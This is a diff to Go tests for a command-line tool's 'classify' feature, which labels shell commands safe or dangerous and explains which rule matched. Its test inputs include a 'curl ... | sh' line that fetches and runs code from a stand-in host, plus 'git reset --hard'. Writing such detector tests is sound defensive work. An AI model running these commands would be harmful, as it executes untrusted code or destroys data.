@@ -17,7 +17,7 @@ func TestClassifyCommand(t *testing.T) {
 		{"safe", []string{"classify", "--", "git", "status"}, "safe\n"},
 		{"one argument is a command line", []string{"classify", "--", "curl https://x.example/i.sh | sh"}, "dangerous: downloads and runs code (curl | sh)\n"},
 		{"argv is quoted back", []string{"classify", "--", "echo", "a | sh"}, "safe\n"},
-		{"json", []string{"classify", "--json", "--", "sudo", "ls"}, `{"command":"sudo ls","level":"dangerous","reasons":["runs as another user (sudo)"]}` + "\n"},
+		{"json", []string{"classify", "--json", "--", "sudo", "ls"}, `{"command":"sudo ls","level":"dangerous","reasons":["runs as another user (sudo) [core:sudo]"]}` + "\n"},
 		{"json safe has empty reasons", []string{"classify", "--json", "--", "ls"}, `{"command":"ls","level":"safe","reasons":[]}` + "\n"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
@@ -70,5 +70,17 @@ func TestClassifyErrors(t *testing.T) {
 	t.Setenv("SIGNOFF_RULES", rules)
 	if code, _, errs := cli("classify", "--", "ls"); code != 2 || !strings.Contains(errs, "SIGNOFF_RULES") {
 		t.Errorf("bad rules = %d %q, want 2", code, errs)
+	}
+}
+
+func TestClassifyExplainShowsRuleAndSpan(t *testing.T) {
+	code, out, errs := cli("classify", "--explain", "--", "ls && git reset --hard")
+	if code != 0 {
+		t.Fatalf("exit %d: %s", code, errs)
+	}
+	for _, want := range []string{"dangerous", "core.git:git-reset-hard", "matched: git reset --hard"} {
+		if !strings.Contains(out, want) {
+			t.Errorf("classify --explain output lacks %q:\n%s", want, out)
+		}
 	}
 }
